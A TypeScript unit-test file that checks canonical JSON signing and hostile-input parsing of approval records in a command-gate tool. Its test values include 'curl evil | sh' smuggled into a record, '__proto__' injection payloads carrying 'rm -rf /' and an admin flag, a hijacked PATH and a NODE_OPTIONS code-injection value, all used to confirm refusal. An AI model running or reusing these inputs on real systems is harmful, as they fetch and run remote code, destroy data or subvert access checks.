// Pure unit tests of the oracle (DESIGN §2.4) and of approval records (§2.5): canonical JSON,
// signatures that move with every bound field, the "what changed" phrases, and the hostile
// parsing of approval records.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { APPROVAL_SCHEMA, parseApprovalRecord, serializeApprovalRecord } from '../../lib/approval/record.js';
import { canonicalJson, type Canonical } from '../../lib/oracle/canonical.js';
import {
  changedFields,
  dependsChanges,
  dependsDigest,
  ORACLE_KEYS,
  OPTIONAL_ORACLE_KEYS,
  normalizePath,
  ORACLE_VERSION,
  sha256Hex,
  shortSignature,
  signOracle,
  type DependsEntry,
  type OracleFields,
} from '../../lib/oracle/oracle.js';

const H1 = 'a'.repeat(64);
const H2 = 'b'.repeat(64);
const H3 = 'c'.repeat(64);

function baseFields(): OracleFields {
  return {
    v: ORACLE_VERSION,
    ledger: '/repo/GATES.md',
    gate: 'G1',
    check: 'echo hello',
    expect: 'hello',
    cwd: '/repo',
    shell: '/bin/sh',
    timeoutMs: 120_000,
    outputCap: 1_048_576,
    regexCapMs: 250,
    platform: 'linux',
    path: '/usr/bin:/bin',
    depends: [['scripts/v.mjs', H1]],
  };
}

/** For every field of OracleFields: the same oracle with only that field changed. */
function variants(): Record<keyof OracleFields, OracleFields> {
  const b = baseFields();
  return {
    v: { ...b, v: 'gate-check/oracle@2' as typeof ORACLE_VERSION },
    ledger: { ...b, ledger: '/repo/docs/GATES.md' },
    gate: { ...b, gate: 'G2' },
    check: { ...b, check: 'echo hello ' },
    expect: { ...b, expect: '/hello/' },
    cwd: { ...b, cwd: '/repo/sub' },
    shell: { ...b, shell: '/bin/bash' },
    timeoutMs: { ...b, timeoutMs: 60_000 },
    outputCap: { ...b, outputCap: 1_048_577 },
    regexCapMs: { ...b, regexCapMs: 251 },
    platform: { ...b, platform: 'darwin' },
    path: { ...b, path: '/opt/evil:/usr/bin:/bin' },
    depends: { ...b, depends: [['scripts/v.mjs', H2]] },
    pathBound: { ...b, pathBound: [['tools/runtests', H3]] },
    env: { ...b, env: [['NODE_OPTIONS', '--require ./x.cjs']] },
  };
}

/** The signature as record.ts recomputes it, for oracles that are deliberately ill-typed. */
function signAny(oracle: unknown): string {
  return sha256Hex(canonicalJson(oracle as Canonical));
}

/** A record object (not text) for a valid oracle, to be mutated by each refusal test. */
function recordObject(fields: OracleFields = baseFields()): Record<string, unknown> {
  const text = serializeApprovalRecord(fields, signOracle(fields).signature, new Date('2024-05-06T07:08:09.000Z'));
  return JSON.parse(text) as Record<string, unknown>;
}

function oracleOf(record: Record<string, unknown>): Record<string, unknown> {
  return record.oracle as Record<string, unknown>;
}

/** Rebuilds every object with its keys in reverse order (own data properties, "__proto__" included). */
function reorder(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(reorder);
  if (value === null || typeof value !== 'object') return value;
  const out: Record<string, unknown> = {};
  for (const k of Object.keys(value).reverse()) {
    Object.defineProperty(out, k, { value: reorder((value as Record<string, unknown>)[k]), enumerable: true, writable: true, configurable: true });
  }
  return out;
}

function refused(text: string): string {
  const r = parseApprovalRecord(text);
  expect(r.ok).toBe(false);
  return r.ok ? '' : r.reason;
}

describe('canonicalJson', () => {
  it('sorts keys by code unit at every depth and writes no whitespace', () => {
    const a = canonicalJson({ b: 1, a: { z: [3, { y: true, x: null }], B: 'é' }, é: 'x', Z: -0.5 });
    expect(a).toBe('{"Z":-0.5,"a":{"B":"é","z":[3,{"x":null,"y":true}]},"b":1,"é":"x"}');
  });

  it('is independent of key insertion order', () => {
    const one = { ledger: '/r/GATES.md', gate: 'G1', nested: { b: [1, 2], a: 'x' } };
    const two = { nested: { a: 'x', b: [1, 2] }, gate: 'G1', ledger: '/r/GATES.md' };
    expect(canonicalJson(one)).toBe(canonicalJson(two));
    const f = baseFields();
    const reversed = reorder(f) as OracleFields;
    expect(Object.keys(reversed)).not.toEqual(Object.keys(f));
    expect(canonicalJson(reversed as unknown as Canonical)).toBe(canonicalJson(f as unknown as Canonical));
    expect(signOracle(reversed).signature).toBe(signOracle(f).signature);
  });

  it('keeps array order (arrays are sequences, not sets)', () => {
    expect(canonicalJson([1, 2])).not.toBe(canonicalJson([2, 1]));
  });

  it('is deterministic and escapes strings as JSON.stringify does', () => {
    const v = { s: 'quote " backslash \\ newline \n nul \u0000 bidi \u202e', n: 1e21, t: false };
    expect(canonicalJson(v)).toBe(canonicalJson(v));
    expect(JSON.parse(canonicalJson(v))).toEqual(v);
    expect(canonicalJson('a"b')).toBe(JSON.stringify('a"b'));
  });

  it('distinguishes values that differ only in type', () => {
    expect(canonicalJson({ a: '1' })).not.toBe(canonicalJson({ a: 1 }));
    expect(canonicalJson({ a: null })).not.toBe(canonicalJson({ a: 'null' }));
    expect(canonicalJson({ a: [] })).not.toBe(canonicalJson({ a: {} }));
  });

  it('refuses non-finite numbers', () => {
    expect(() => canonicalJson(Number.NaN)).toThrow(/non-finite/);
    expect(() => canonicalJson({ a: [Number.POSITIVE_INFINITY] })).toThrow(/non-finite/);
  });

  it('property: reordering keys never changes the bytes; output re-parses to the same canonical form', () => {
    fc.assert(
      fc.property(fc.jsonValue(), (value) => {
        const c = canonicalJson(value as Canonical);
        expect(canonicalJson(reorder(value) as Canonical)).toBe(c);
        expect(canonicalJson(JSON.parse(c) as Canonical)).toBe(c);
      }),
      { numRuns: 300 },
    );
  });
});

describe('signOracle', () => {
  it('is a 64-hex SHA-256 of the canonical serialization, stable across calls', () => {
    const f = baseFields();
    const s = signOracle(f);
    expect(s.signature).toMatch(/^[0-9a-f]{64}$/);
    expect(s.signature).toBe(sha256Hex(canonicalJson(f as unknown as Canonical)));
    expect(signOracle(baseFields()).signature).toBe(s.signature);
    expect(shortSignature(s.signature)).toBe(s.signature.slice(0, 12));
  });

  it('ORACLE_KEYS lists exactly the fields of an oracle', () => {
    expect([...ORACLE_KEYS].sort()).toEqual(Object.keys(baseFields()).sort());
    expect(Object.keys(variants()).sort()).toEqual([...ORACLE_KEYS, ...OPTIONAL_ORACLE_KEYS].sort());
  });

  const base = signOracle(baseFields()).signature;
  for (const [key, changed] of Object.entries(variants())) {
    it(`changes when only ${key} changes`, () => {
      const b = baseFields() as unknown as Record<string, unknown>;
      const c = changed as unknown as Record<string, unknown>;
      for (const k of ORACLE_KEYS) if (k !== key) expect(c[k]).toEqual(b[k]);
      expect(c[key]).not.toEqual(b[key]);
      expect(signOracle(changed).signature).not.toBe(base);
    });
  }

  it('gives every single-field variant its own signature', () => {
    const sigs = Object.values(variants()).map((f) => signOracle(f).signature);
    expect(new Set([...sigs, base]).size).toBe(sigs.length + 1);
  });

  it('distinguishes PATH unset from PATH empty, and no DEPENDS from an empty DEPENDS list', () => {
    const b = baseFields();
    const sig = (f: OracleFields) => signOracle(f).signature;
    expect(sig({ ...b, path: null })).not.toBe(sig({ ...b, path: '' }));
    expect(sig({ ...b, depends: null })).not.toBe(sig({ ...b, depends: [] }));
  });

  it('binds DEPENDS paths, hashes and order', () => {
    const b = baseFields();
    const sig = (depends: DependsEntry[]) => signOracle({ ...b, depends }).signature;
    const ab: DependsEntry[] = [['a.mjs', H1], ['b.mjs', H2]];
    expect(sig(ab)).not.toBe(sig([['a.mjs', H1], ['c.mjs', H2]]));
    expect(sig(ab)).not.toBe(sig([['a.mjs', H1], ['b.mjs', H3]]));
    expect(sig(ab)).not.toBe(sig([['a.mjs', H1]]));
    expect(sig(ab)).not.toBe(sig([['b.mjs', H2], ['a.mjs', H1]]));
    expect(dependsDigest(ab)).toMatch(/^[0-9a-f]{12}$/);
    expect(dependsDigest(ab)).not.toBe(dependsDigest([['a.mjs', H1], ['b.mjs', H3]]));
  });
});

describe('changedFields / dependsChanges', () => {
  const expected: Record<keyof OracleFields, string[]> = {
    v: ['oracle format changed'],
    ledger: ['ledger location changed'],
    gate: ['gate id changed'],
    check: ['CHECK changed'],
    expect: ['EXPECT changed'],
    cwd: ['CWD changed'],
    shell: ['shell changed'],
    timeoutMs: ['timeout changed'],
    outputCap: ['output cap changed'],
    regexCapMs: ['regex time cap changed'],
    platform: ['platform changed'],
    path: ['PATH changed: added /opt/evil'],
    depends: ['DEPENDS: scripts/v.mjs changed'],
    pathBound: ['PATH now has entries inside the repository (1 executable)'],
    env: ['environment: NODE_OPTIONS set'],
  };

  it('an identical oracle has no changes', () => {
    expect(changedFields(baseFields(), baseFields())).toEqual([]);
  });

  for (const [key, next] of Object.entries(variants())) {
    it(`names exactly the changed field: ${key}`, () => {
      expect(changedFields(baseFields(), next)).toEqual(expected[key as keyof OracleFields]);
    });
  }

  it('PATH set <-> unset is a PATH change', () => {
    expect(changedFields(baseFields(), { ...baseFields(), path: null })).toEqual(['PATH changed: it is unset now']);
    expect(changedFields({ ...baseFields(), path: null }, { ...baseFields(), path: '' })).toEqual(['PATH changed: it was unset']);
  });

  it('names several changes at once', () => {
    const next: OracleFields = { ...baseFields(), check: 'x', path: null, shell: '/bin/bash', depends: null };
    expect(changedFields(baseFields(), next)).toEqual(['CHECK changed', 'shell changed', 'PATH changed: it is unset now', 'DEPENDS removed']);
  });

  it('PATH differences name the entries added and removed, or the order', () => {
    const at = (path: string) => ({ ...baseFields(), path });
    expect(changedFields(at('/a:/b'), at('/b:/c:/d'))).toEqual(['PATH changed: added /c, /d; removed /a']);
    expect(changedFields(at('/a:/b'), at('/b:/a'))).toEqual(['PATH changed: the same entries in another order']);
    expect(changedFields(at('/a'), at('/a::/1:/2:/3:/4:/5'))).toEqual(['PATH changed: added (empty: the working directory), /1, /2, /3 (+2 more)']);
  });

  it('PATH is bound without later duplicates (the shell never reaches them)', () => {
    expect(normalizePath('/a:/b:/a::/b:')).toBe('/a:/b:');
    expect(normalizePath(undefined)).toBeNull();
    expect(normalizePath('')).toBe('');
    expect(signOracle({ ...baseFields(), path: normalizePath('/usr/bin:/bin:/usr/bin') }).signature).toBe(signOracle({ ...baseFields(), path: '/usr/bin:/bin' }).signature);
  });

  it('dependsChanges: added, removed, changed per file, and the whole list added or removed', () => {
    expect(dependsChanges(null, null)).toEqual([]);
    expect(dependsChanges(null, [])).toEqual(['DEPENDS added']);
    expect(dependsChanges([], null)).toEqual(['DEPENDS removed']);
    expect(dependsChanges([['a', H1]], [['a', H1]])).toEqual([]);
    expect(dependsChanges([['a', H1]], [['a', H2]])).toEqual(['DEPENDS: a changed']);
    expect(dependsChanges([['a', H1]], [['a', H1], ['b', H2]])).toEqual(['DEPENDS: b added']);
    expect(dependsChanges([['a', H1], ['b', H2]], [['b', H2]])).toEqual(['DEPENDS: a removed']);
    expect(dependsChanges([['a', H1], ['b', H2]], [['b', H3], ['c', H1]])).toEqual(['DEPENDS: b changed', 'DEPENDS: c added', 'DEPENDS: a removed']);
  });
});

describe('parseApprovalRecord', () => {
  it('accepts a serialized record and returns its oracle', () => {
    const f = baseFields();
    const sig = signOracle(f).signature;
    const r = parseApprovalRecord(serializeApprovalRecord(f, sig, new Date('2024-01-02T03:04:05.000Z')));
    expect(r).toEqual({ ok: true, record: { schema: APPROVAL_SCHEMA, signature: sig, approvedAt: '2024-01-02T03:04:05.000Z', oracle: f } });
  });

  it('accepts PATH null, DEPENDS null and an empty DEPENDS list', () => {
    for (const f of [{ ...baseFields(), path: null }, { ...baseFields(), depends: null }, { ...baseFields(), depends: [] }]) {
      const r = parseApprovalRecord(serializeApprovalRecord(f, signOracle(f).signature, new Date()));
      expect(r.ok).toBe(true);
      if (r.ok) expect(r.record.oracle).toEqual(f);
    }
  });

  it('accepts the same record with keys in another order (parsing is structural)', () => {
    expect(parseApprovalRecord(JSON.stringify(reorder(recordObject()))).ok).toBe(true);
  });

  it('refuses text that is not JSON', () => {
    const good = serializeApprovalRecord(baseFields(), signOracle(baseFields()).signature, new Date());
    for (const t of ['', '{', good.slice(0, good.length - 5), "{'schema': 1}", 'NaN', '\u0000']) {
      expect(refused(t)).toBe('not valid JSON');
    }
  });

  it('refuses JSON that is not an object', () => {
    for (const t of ['null', '[]', '"record"', '42', 'true', JSON.stringify([recordObject()])]) {
      expect(refused(t)).toMatch(/unexpected or missing fields/);
    }
  });

  it('refuses an extra top-level key', () => {
    expect(refused(JSON.stringify({ ...recordObject(), note: 'hi' }))).toMatch(/unexpected or missing fields/);
  });

  for (const key of ['schema', 'signature', 'approvedAt', 'oracle']) {
    it(`refuses a record without ${key}`, () => {
      const r = recordObject();
      delete r[key];
      expect(refused(JSON.stringify(r))).toMatch(/unexpected or missing fields/);
    });
  }

  it('refuses a "__proto__" key at the top level (as an extra key, or standing in for a missing one)', () => {
    const good = JSON.stringify(recordObject());
    const extra = good.replace(/^\{/, '{"__proto__":{"isAdmin":true},');
    expect(extra.startsWith('{"__proto__"')).toBe(true);
    expect(refused(extra)).toMatch(/unexpected or missing fields/);
    // Four keys, one of them "__proto__" in place of approvedAt.
    const r = recordObject();
    const approvedAt = JSON.stringify(r.approvedAt);
    const swapped = good.replace(`"approvedAt":${approvedAt}`, `"__proto__":${approvedAt}`);
    expect(swapped).toContain('"__proto__"');
    expect(refused(swapped)).toMatch(/unexpected or missing fields/);
    // Nothing leaked onto Object.prototype.
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
  });

  it('refuses a "__proto__" key inside the oracle', () => {
    const good = JSON.stringify(recordObject());
    const text = good.replace('"oracle":{', '"oracle":{"__proto__":{"check":"rm -rf /"},');
    expect(text).toContain('"oracle":{"__proto__"');
    expect(refused(text)).toBe('bad oracle fields');
  });

  it('refuses an extra oracle key', () => {
    const r = recordObject();
    const o = { ...oracleOf(r), env: 'X=1' };
    expect(refused(JSON.stringify({ ...r, oracle: o, signature: signAny(o) }))).toBe('bad oracle fields');
  });

  for (const key of ORACLE_KEYS) {
    it(`refuses an oracle without ${key}`, () => {
      const r = recordObject();
      const o = { ...oracleOf(r) };
      delete o[key];
      expect(refused(JSON.stringify({ ...r, oracle: o, signature: signAny(o) }))).toBe('bad oracle fields');
    });
  }

  const badOracleValues: [string, unknown][] = [
    ['v', 'gate-check/oracle@2'],
    ['v', null],
    ['ledger', 42],
    ['gate', null],
    ['check', ['echo', 'hi']],
    ['expect', { text: 'hi' }],
    ['cwd', true],
    ['shell', null],
    ['platform', 1],
    ['timeoutMs', '120000'],
    ['timeoutMs', -1],
    ['timeoutMs', 1.5],
    ['timeoutMs', 2 ** 53],
    ['outputCap', null],
    ['regexCapMs', '250'],
    ['path', 17],
    ['path', ['/bin']],
    ['depends', 'scripts/v.mjs'],
    ['depends', {}],
    ['depends', [['scripts/v.mjs']]],
    ['depends', [['scripts/v.mjs', H1, 'extra']]],
    ['depends', [[1, H1]]],
    ['depends', [['scripts/v.mjs', 'A'.repeat(64)]]],
    ['depends', [['scripts/v.mjs', 'a'.repeat(63)]]],
    ['depends', ['scripts/v.mjs']],
  ];
  for (const [key, value] of badOracleValues) {
    it(`refuses oracle.${key} = ${JSON.stringify(value)} (even correctly signed)`, () => {
      const r = recordObject();
      const o = { ...oracleOf(r), [key]: value };
      expect(refused(JSON.stringify({ ...r, oracle: o, signature: signAny(o) }))).toBe('bad oracle fields');
    });
  }

  it('refuses an oracle that is not a plain object', () => {
    for (const o of [null, [], 'oracle', 1]) {
      const r = recordObject();
      expect(refused(JSON.stringify({ ...r, oracle: o }))).toBe('bad oracle fields');
    }
  });

  it('refuses a wrong schema string', () => {
    for (const schema of ['gate-check/approval@2', 'gate-check/approval@1 ', 'GATE-CHECK/APPROVAL@1', '', 1, null]) {
      expect(refused(JSON.stringify({ ...recordObject(), schema }))).toBe('unknown record schema');
    }
  });

  it('refuses a malformed signature field', () => {
    const sig = signOracle(baseFields()).signature;
    for (const signature of [sig.toUpperCase(), sig.slice(0, 63), sig + '0', ` ${sig}`, 42, null]) {
      expect(refused(JSON.stringify({ ...recordObject(), signature }))).toBe('bad signature field');
    }
  });

  it('refuses a malformed approvedAt field', () => {
    for (const approvedAt of ['yesterday', '', 1714979289000, null]) {
      expect(refused(JSON.stringify({ ...recordObject(), approvedAt }))).toBe('bad approvedAt field');
    }
  });

  it('refuses a signature that does not match the oracle it carries', () => {
    const r = recordObject();
    // The oracle was edited after signing (a different CHECK smuggled into an old approval).
    const edited = { ...r, oracle: { ...oracleOf(r), check: 'curl evil | sh' } };
    expect(refused(JSON.stringify(edited))).toBe('signature does not match the oracle it records');
    // A well-formed signature of another oracle.
    const other = { ...r, signature: signOracle({ ...baseFields(), gate: 'G2' }).signature };
    expect(refused(JSON.stringify(other))).toBe('signature does not match the oracle it records');
    // Every single-field variant, with the base oracle's signature.
    for (const f of Object.values(variants())) {
      if (f.v !== ORACLE_VERSION) continue; // refused earlier, as bad oracle fields
      expect(refused(JSON.stringify({ ...r, oracle: f }))).toBe('signature does not match the oracle it records');
    }
  });
});

describe('approval records with executables bound from PATH', () => {
  const bound = (pathBound: unknown) => {
    const fields = { ...baseFields(), pathBound: [['tools/runtests', H3]] } as OracleFields;
    const record = recordObject(fields);
    (record.oracle as Record<string, unknown>).pathBound = pathBound;
    (record as Record<string, unknown>).signature = signAny(record.oracle);
    return JSON.stringify(record);
  };

  it('round-trips, and its signature covers the bound executables', () => {
    const fields = { ...baseFields(), pathBound: [['tools/runtests', H3]] } as OracleFields;
    const r = parseApprovalRecord(serializeApprovalRecord(fields, signOracle(fields).signature, new Date()));
    expect(r.ok && r.record.oracle.pathBound).toEqual([['tools/runtests', H3]]);
    expect(signOracle(fields).signature).not.toBe(signOracle(baseFields()).signature);
    // Absent, not null: an oracle without in-repository PATH entries keeps its old signature.
    expect(Object.hasOwn(baseFields(), 'pathBound')).toBe(false);
  });

  it('refuses a malformed or null pathBound, and one that differs from the expected oracle', () => {
    for (const v of [null, 'x', [['a']], [['a', 'nothex']], [[1, H3]]]) expect(refused(bound(v)), JSON.stringify(v)).toMatch(/bad oracle fields/);
    const fields = { ...baseFields(), pathBound: [['tools/runtests', H3]] } as OracleFields;
    const text = serializeApprovalRecord(fields, signOracle(fields).signature, new Date());
    const other = { fields: { ...fields, pathBound: [['tools/runtests', H2]] } as OracleFields, signature: signOracle(fields).signature };
    const r = parseApprovalRecord(text, other);
    expect(r.ok).toBe(false);
  });
});
